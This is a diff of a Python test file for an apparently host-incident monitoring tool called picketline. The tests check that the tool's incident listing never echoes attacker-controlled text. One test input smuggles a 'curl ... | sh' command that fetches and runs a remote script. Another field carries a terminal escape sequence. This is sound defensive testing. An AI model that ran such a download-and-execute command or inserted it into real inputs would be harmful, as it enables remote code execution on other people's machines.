@@ -3,6 +3,9 @@ import json
 from build import found, record
 from desk import Desk, says
 
+from picketline.core.store import Incident, Store
+from picketline.hosts.account import NOTES
+
 STAMP = "20260314150926"
 
 
@@ -39,3 +42,24 @@ def test_a_host_writes_no_command(desk: Desk) -> None:
     desk.fleet({"web-1": _frozen("1; curl http://203.0.113.9/i.sh | sh #")})
     desk.picket("run", "--json")
     assert "curl" not in desk.picket("incidents").stdout
+
+
+def test_what_was_held_with_it(desk: Desk) -> None:
+    """The rest of its tree, its container and remarks, in words; no words of the host's own."""
+    desk.fleet({"web-1": ""})
+    held = f"{'a' * 64} docker container aaaaaaaaaaaa (web) paused\x1b[2J"
+    kept: dict[str, int | str] = {
+        "targets": "4242:991:77",
+        "subject": "web-1: /tmp/m",
+        "with": "4243:992:78",
+        "container": held,
+        "notes": "service made-up",
+    }
+    incident = Incident(STAMP, "web-1", "f" * 64, "HOST-EXE-001", 1.0, "contained", kept)
+    with Store.open(desk.state / "picketline") as store:
+        store.add_incident(incident)
+    assert desk.picket("incidents").stdout.splitlines()[2:5] == [
+        "  with them: 4243:992:78",
+        r"  docker container aaaaaaaaaaaa (web) paused\x1b[2J",
+        f"  {NOTES['service']}",
+    ]
